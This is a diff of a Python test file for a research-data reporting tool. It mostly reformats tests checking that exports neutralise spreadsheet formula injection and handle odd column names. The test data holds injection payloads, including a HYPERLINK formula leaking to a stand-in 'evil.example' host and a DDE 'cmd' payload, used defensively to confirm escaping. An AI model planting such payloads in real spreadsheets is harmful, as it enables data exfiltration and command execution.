@@ -28,8 +28,16 @@ from peerimpact.ingest.writers import NotWritten, write_table
 from peerimpact.resources import params_dir
 from peerimpact.text import FORMULA_START, neutralise
 
-DANGEROUS = ['=HYPERLINK("http://evil.example/?leak","click")', "=1+1", "=cmd|' /C calc'!A0", "+1+2", "-1+2",
-             "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+DANGEROUS = [
+    '=HYPERLINK("http://evil.example/?leak","click")',
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-1+2",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
 FORMATS = ["csv", "xlsx", "sav", "dta", "parquet"]
 
@@ -64,8 +72,12 @@ def _poison(study: Path, params: Path | None = None) -> None:
         for name in ("qualitative.yml", "synthesis.yml"):
             text = (params / name).read_text()
             for old, new in themes.items():
-                text = re.sub(rf"^(  ){re.escape(old)}:", lambda m: f"{m[1]}{json.dumps(new)}:", text, flags=re.M)
-                text = re.sub(rf"(themes: \[[^\]\n]*?)\b{re.escape(old)}\b", lambda m: m[1] + json.dumps(new), text)
+                text = re.sub(
+                    rf"^(  ){re.escape(old)}:", lambda m, new=new: f"{m[1]}{json.dumps(new)}:", text, flags=re.M
+                )
+                text = re.sub(
+                    rf"(themes: \[[^\]\n]*?)\b{re.escape(old)}\b", lambda m, new=new: m[1] + json.dumps(new), text
+                )
             (params / name).write_text(text)
     codebook["theme"] = codebook["theme"].map(themes)
     codebook["code"] = [_dangerous(i, c) for i, c in enumerate(codebook["code"])]
@@ -79,7 +91,10 @@ def _poison(study: Path, params: Path | None = None) -> None:
     lines, section = [], None
     for i, line in enumerate((study / "study.yml").read_text().splitlines()):
         section = line[:-1] if re.fullmatch(r"\w+:", line) else section if line.startswith(" ") else None
-        quoted = lambda text: json.dumps(_dangerous(i, text))   # noqa: E731
+
+        def quoted(text, i=i):
+            return json.dumps(_dangerous(i, text))
+
         if line.startswith("name: ") or (section == "funder" and re.match(r"  (name|grant): ", line)):
             key, _, value = line.partition(": ")
             line = f"{key}: {quoted(value)}"
@@ -101,8 +116,15 @@ def _dangerous_start(text: str) -> bool:
 def test_no_input_text_becomes_a_formula_in_a_reports_csvs_or_workbook(example_copy, tmp_path):
     _poison(example_copy, tmp_path / "params")
     out = tmp_path / "reports"
-    result = build(example_copy, out=out, params=tmp_path / "params", only=["study", "funder", "site-S7", "cohort-bank"],
-                   formats=["html", "xlsx"], jobs=2, echo=lambda m: None)
+    result = build(
+        example_copy,
+        out=out,
+        params=tmp_path / "params",
+        only=["study", "funder", "site-S7", "cohort-bank"],
+        formats=["html", "xlsx"],
+        jobs=2,
+        echo=lambda m: None,
+    )
     assert result.exit_code == 0, [o.error for o in result.failed] + [p.format() for p in result.problems]
     csvs, books = sorted(out.rglob("*.csv")), sorted(out.rglob("*.xlsx"))
     assert len(books) == 4 and len(csvs) > 20
@@ -125,11 +147,18 @@ def test_no_input_text_becomes_a_formula_in_a_reports_csvs_or_workbook(example_c
     # (they strip a leading tab or carriage return from a cell), and the names of codes, themes and milestones
     for danger in (d for d in DANGEROUS if not d[0].isspace()):
         assert any(v.startswith("'" + danger) for v in shown), danger
-    for words in ("Paid for lived experience", "Feeling valued", "Recruitment target reached",
-                  "Final report to the funder"):
+    for words in (
+        "Paid for lived experience",
+        "Feeling valued",
+        "Recruitment target reached",
+        "Final report to the funder",
+    ):
         assert any(v.endswith(words) and v[1:].startswith(tuple(DANGEROUS)) for v in shown), words
-    about = {r[0]: r[1] for r in openpyxl.load_workbook(out / "cohort-bank" / "tables.xlsx")["About"]
-             .iter_rows(values_only=True) if r[0]}
+    about = {
+        r[0]: r[1]
+        for r in openpyxl.load_workbook(out / "cohort-bank" / "tables.xlsx")["About"].iter_rows(values_only=True)
+        if r[0]
+    }
     assert about["Scope"].startswith("'=") and about["Scope"].endswith("Bank staff")
     quotes = pd.read_csv(out / "study" / "tables" / "quotes.csv", dtype=str, keep_default_na=False)
     assert len(quotes) and quotes["text"].str.startswith("'").all()
@@ -138,13 +167,36 @@ def test_no_input_text_becomes_a_formula_in_a_reports_csvs_or_workbook(example_c
 # ------------------------------------------------------------------------------------ exports
 
 
-ODD = ["1st visit", "año", "with space", "n" * 70, "a.b", "a-b", "a_b", "_under", "ünï cödé", "ALL", "if", "str5",
-       '=HYPERLINK("x")', "v1st_visit"]
+ODD = [
+    "1st visit",
+    "año",
+    "with space",
+    "n" * 70,
+    "a.b",
+    "a-b",
+    "a_b",
+    "_under",
+    "ünï cödé",
+    "ALL",
+    "if",
+    "str5",
+    '=HYPERLINK("x")',
+    "v1st_visit",
+]
 # column, as the reader keeps it (lower-case) -> its name in SPSS and in Stata, where either renames it
-RENAMED = {"1st visit": ("v1st_visit_2", "v1st_visit_2"), "with space": ("with_space", "with_space"),
-           "n" * 70: ("n" * 64, "n" * 32), "a.b": ("a_b_2", "a_b_2"), "a-b": ("a_b_3", "a_b_3"),
-           "_under": ("v_under", "v_under"), "ünï cödé": ("ünï_cödé", "ünï_cödé"), "all": ("all_", "all"),
-           "if": ("if", "if_"), "str5": ("str5", "str5_"), '=hyperlink("x")': ("v_hyperlink_x", "v_hyperlink_x")}
+RENAMED = {
+    "1st visit": ("v1st_visit_2", "v1st_visit_2"),
+    "with space": ("with_space", "with_space"),
+    "n" * 70: ("n" * 64, "n" * 32),
+    "a.b": ("a_b_2", "a_b_2"),
+    "a-b": ("a_b_3", "a_b_3"),
+    "_under": ("v_under", "v_under"),
+    "ünï cödé": ("ünï_cödé", "ünï_cödé"),
+    "all": ("all_", "all"),
+    "if": ("if", "if_"),
+    "str5": ("str5", "str5_"),
+    '=hyperlink("x")': ("v_hyperlink_x", "v_hyperlink_x"),
+}
 
 
 @pytest.fixture
@@ -175,23 +227,32 @@ def test_every_legal_column_name_exports_in_every_format(odd_study, tmp_path, ca
     out = tmp_path / f"tidy.{fmt}"
     assert main(["export", "--study", str(odd_study), "--out", str(out)]) == 0, capsys.readouterr().err
     columns, labels = _read(out)
-    assert columns[:8] == ["participant_id", "site", "timepoint", "instrument", "subscale", "instrument_label",
-                           "subscale_label", "score"]
-    odd = [name.lower() for name in ODD]   # the reader compares headers ignoring case, keeps them lower-case
+    assert columns[:8] == [
+        "participant_id",
+        "site",
+        "timepoint",
+        "instrument",
+        "subscale",
+        "instrument_label",
+        "subscale_label",
+        "score",
+    ]
+    odd = [name.lower() for name in ODD]  # the reader compares headers ignoring case, keeps them lower-case
     if fmt in ("csv", "xlsx"):
         assert [neutralise(n) for n in odd] == [c for c in columns if c in {neutralise(n) for n in odd}]
-        assert "'=hyperlink(\"x\")" in columns
+        assert '\'=hyperlink("x")' in columns
     elif fmt == "parquet":
         assert set(odd) <= set(columns)
     else:
         spss = fmt == "sav"
-        assert all(re.fullmatch(r"[^\W\d_]\w*", c) and len(c.encode() if spss else c) <= (64 if spss else 32)
-                   for c in columns), columns
+        assert all(
+            re.fullmatch(r"[^\W\d_]\w*", c) and len(c.encode() if spss else c) <= (64 if spss else 32) for c in columns
+        ), columns
         assert len({c.casefold() for c in columns}) == len(columns)
         for column in odd:
             name = RENAMED.get(column, (column, column))[0 if spss else 1]
             assert name in columns, (column, name)
-            if name != column:   # renamed: the study's own name is its label
+            if name != column:  # renamed: the study's own name is its label
                 assert labels[name] == column, (name, labels[name])
         assert labels["año"] == "Año" and labels["v1st_visit"] == "V1st visit" and labels["score"] == "Subscale score"
 
@@ -203,11 +264,16 @@ def test_a_failed_export_leaves_the_previous_file_as_it_was_and_nothing_else(exa
     out.write_bytes(b"the previous export, which must survive\n" * 4)
     before = out.read_bytes()
 
-    def small_files() -> None:   # a disk that fills up part way through the write
+    def small_files() -> None:  # a disk that fills up part way through the write
         resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))
 
-    run = subprocess.run([sys.executable, "-m", "peerimpact.cli", "export", "--study", str(example_copy),
-                          "--out", str(out)], capture_output=True, text=True, preexec_fn=small_files, timeout=300)
+    run = subprocess.run(
+        [sys.executable, "-m", "peerimpact.cli", "export", "--study", str(example_copy), "--out", str(out)],
+        capture_output=True,
+        text=True,
+        preexec_fn=small_files,
+        timeout=300,
+    )
     assert run.returncode == 2, run.stderr
     assert out.read_bytes() == before and sorted(p.name for p in out.parent.iterdir()) == [out.name]
     lines = run.stderr.strip().splitlines()
@@ -244,8 +310,22 @@ def test_export_refuses_to_write_over_an_input_file_outside_the_study_folder(exa
 
     folder = move_contacts_outside(example_copy, tmp_path / "shared")
     before = (folder / "contacts.csv").read_bytes()
-    assert main(["export", "--study", str(example_copy), "--data-root", str(folder), "--format", "csv",
-                 "--out", str(folder / "contacts.csv")]) == 2
+    assert (
+        main(
+            [
+                "export",
+                "--study",
+                str(example_copy),
+                "--data-root",
+                str(folder),
+                "--format",
+                "csv",
+                "--out",
+                str(folder / "contacts.csv"),
+            ]
+        )
+        == 2
+    )
     assert "refusing to write over an input file" in capsys.readouterr().err
     assert (folder / "contacts.csv").read_bytes() == before
 
@@ -253,8 +333,10 @@ def test_export_refuses_to_write_over_an_input_file_outside_the_study_folder(exa
 def _renamed_ids(study: Path) -> None:
     """Two participants whose IDs start like formulas, in every file of the study."""
     for path in study.glob("*.csv"):
-        path.write_text(path.read_text(encoding="utf-8").replace("S1-PW01", "=S1-PW01").replace("S1-PW02", "-S1-PW02"),
-                        encoding="utf-8")
+        path.write_text(
+            path.read_text(encoding="utf-8").replace("S1-PW01", "=S1-PW01").replace("S1-PW02", "-S1-PW02"),
+            encoding="utf-8",
+        )
 
 
 def test_score_writes_ids_that_start_like_formulas_as_text(example_copy, tmp_path):
@@ -277,8 +359,11 @@ def _project(study: Path, tmp_path: Path) -> Path:
     from peerimpact.ingest.refi import write_qdpx
 
     _poison(study)
-    return write_qdpx(pd.read_csv(study / "codebook.csv", keep_default_na=False),
-                      pd.read_csv(study / "excerpts.csv", keep_default_na=False), tmp_path / "project.qdpx")
+    return write_qdpx(
+        pd.read_csv(study / "codebook.csv", keep_default_na=False),
+        pd.read_csv(study / "excerpts.csv", keep_default_na=False),
+        tmp_path / "project.qdpx",
+    )
 
 
 def test_qual_import_writes_no_formula(example_copy, tmp_path):
@@ -297,7 +382,7 @@ def test_what_qual_import_wrote_reads_back_as_the_project_said_it(example_copy, 
 
     out = tmp_path / "imported"
     assert main(["qual", "import", str(_project(example_copy, tmp_path)), "--out", str(out)]) == 0
-    original = pd.read_csv(example_copy / "codebook.csv", keep_default_na=False)   # poisoned by _project
+    original = pd.read_csv(example_copy / "codebook.csv", keep_default_na=False)  # poisoned by _project
     table = read_table(out / "codebook.csv", Problems())
     names = {row[table.columns.index("code")] for row in table.rows}
     assert set(original["code"]) <= names and any(n.startswith("=") for n in names)
@@ -315,13 +400,17 @@ def test_qual_import_writes_both_files_or_neither(example_copy, tmp_path, capsys
 def test_the_audit_summary_writes_no_formula(tmp_path):
     from peerimpact.builder.audit import TableAudit, write_summary
 
-    audits = [TableAudit("cohort-bank", "codes_by_site", fail=['=HYPERLINK("http://evil.example/") Bank/S1: n 3']),
-              TableAudit("site-S7", "table1", review=["-1/T1: n 9 here and 12 in site-S6"])]
+    audits = [
+        TableAudit("cohort-bank", "codes_by_site", fail=['=HYPERLINK("http://evil.example/") Bank/S1: n 3']),
+        TableAudit("site-S7", "table1", review=["-1/T1: n 9 here and 12 in site-S6"]),
+    ]
     path = write_summary(audits, tmp_path / "audit-summary.csv")
     with open(path, newline="", encoding="utf-8") as handle:
         rows = list(csv.reader(handle))
-    assert [row[3] for row in rows[1:]] == ["'=HYPERLINK(\"http://evil.example/\") Bank/S1: n 3",
-                                            "'-1/T1: n 9 here and 12 in site-S6"]
+    assert [row[3] for row in rows[1:]] == [
+        '\'=HYPERLINK("http://evil.example/") Bank/S1: n 3',
+        "'-1/T1: n 9 here and 12 in site-S6",
+    ]
 
 
 def test_a_participants_column_named_like_a_score_column_is_kept_beside_it(example_copy, tmp_path):
